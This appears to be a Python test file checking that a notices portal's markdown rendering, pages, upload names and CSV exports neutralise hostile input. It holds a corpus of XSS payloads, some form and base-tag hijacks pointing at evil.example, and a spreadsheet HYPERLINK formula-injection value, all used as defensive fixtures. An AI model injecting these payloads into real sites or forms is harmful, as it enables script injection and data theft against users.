"""Check S12: hostile text in every notice field renders inert on every page that shows it."""

from __future__ import annotations

from datetime import timedelta

import pytest
from sqlalchemy import select

from portal import clock
from portal.extensions import db
from portal.models import Attachment, ExecutionStatus
from portal.notices import responses, services
from portal.richtext import render_markdown
from tests.notices.conftest import jpeg_bytes, make_notice, notice_values, sign_in, upload
from tests.notices.html_checks import live_markup

CORPUS = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](  javascript:alert(1))",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    '<https://ok.example/"onmouseover="alert(1)>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](x" onerror="alert(1))',
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="  jav&#x0A;ascript:alert(1)">a</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">css</div>',
    '<p style="width: expression(alert(1))">css</p>',
    "<style>@import 'https://evil.example/x.css'; body{background:red}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<form action="https://evil.example"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "{{ 7*7 }} {% raw %}",
]


def test_checker_finds_live_markup():
    """The check itself must be able to fail."""
    assert live_markup('<img src=x onerror="alert(1)">')
    assert live_markup('<a href=" javascript:alert(1)">x</a>')
    assert live_markup("<script>alert(1)</script>")
    assert live_markup('<p style="x">')
    assert not live_markup('<a href="/notices/1">ok</a><script src="/static/js/x.js"></script>')
    assert live_markup("<svg><circle/></svg>")
    assert live_markup('<svg class="chart" role="img" onload="alert(1)"></svg>')
    assert not live_markup('<svg class="chart" role="img"><title>Plan</title></svg>')


@pytest.mark.parametrize("payload", CORPUS)
def test_markdown_body_renders_inert(payload):
    html = str(render_markdown(payload))
    assert live_markup(html) == [], html
    assert "<script" not in html.lower()


def test_markdown_keeps_ordinary_formatting():
    html = str(render_markdown("# Title\n\n**bold** [site](https://ok.example) `code`"))
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert 'href="https://ok.example"' in html
    assert "<code>code</code>" in html


CHUNKS = [CORPUS[i : i + 7] for i in range(0, len(CORPUS), 7)]


def _hostile_world(world, payloads: list[str]):
    """Every text field a notice page shows carries the payloads; each payload is also the
    title of a notice of its own (titles appear in lists, inboxes and notifications)."""
    joined = "\n\n".join(payloads)
    world.n1.name = joined[:200]
    world.n1a.name = joined[:200]
    world.user_n1.name = joined[:120]
    for payload in payloads:
        make_notice(world.sup_north, audience="regions", region_ids=[world.north.id],
                    title=payload[:200], body=payload)  # fmt: skip
    promotion = make_notice(
        world.sup_north,
        kind="promotion",
        audience="regions",
        region_ids=[world.north.id],
        title=joined[:200],
        body=joined,
    )
    services.make_material_change(
        promotion,
        notice_values(
            "promotion",
            audience="regions",
            region_ids=[world.north.id],
            title=joined[:200],
            body=joined + "\n\nchanged",
            execution_deadline=clock.today() + timedelta(days=4),
        ),
        actor=world.sup_north,
        change_note=joined[:1000],
        files=[upload(jpeg_bytes(), f"{joined[:60]}.jpg")],
    )
    responses.acknowledge(promotion, user=world.user_n1, version=2)
    responses.report_execution(
        promotion,
        world.n1a,
        user=world.user_n1,
        version=2,
        status=ExecutionStatus.NOT_POSSIBLE,
        reason=joined,
    )
    responses.report_execution(
        promotion,
        world.n1b,
        user=world.user_n1,
        version=2,
        status=ExecutionStatus.DONE,
        photo=upload(jpeg_bytes(), f"{joined[:60]}.jpg"),
    )
    db.session.commit()
    return promotion


@pytest.mark.parametrize("payloads", CHUNKS, ids=[f"chunk{i}" for i in range(len(CHUNKS))])
def test_every_notice_field_renders_inert_on_every_page(app, world, payloads):
    notice = _hostile_world(world, payloads)
    pages = {
        world.user_n1: [
            "/notices/",
            "/notices/?box=acknowledged",
            f"/notices/{notice.id}",
            f"/notices/{notice.id}/versions/1",
            "/inbox/",
            "/home",
        ],
        world.sup_north: [
            "/notices/",
            f"/notices/{notice.id}",
            f"/notices/{notice.id}/versions/1",
            f"/notices/{notice.id}/tracking",
            f"/notices/{notice.id}/edit",
            "/inbox/",
            "/home",
        ],
    }
    for user, urls in pages.items():
        client = sign_in(app, user)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            html = response.get_data(as_text=True)
            assert live_markup(html) == [], (url, payloads)


def test_hostile_upload_names_are_cleaned(world):
    _hostile_world(world, ["<img src=x onerror=alert(1)>"])
    names = db.session.scalars(select(Attachment.filename)).all()
    assert names
    assert all("<" not in name and ">" not in name for name in names)


def test_csv_exports_neutralise_formulas(app, world):
    notice = _hostile_world(world, ['=HYPERLINK("https://evil.example","x")'])
    client = sign_in(app, world.sup_north)
    text = client.get(f"/notices/{notice.id}/executions.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text
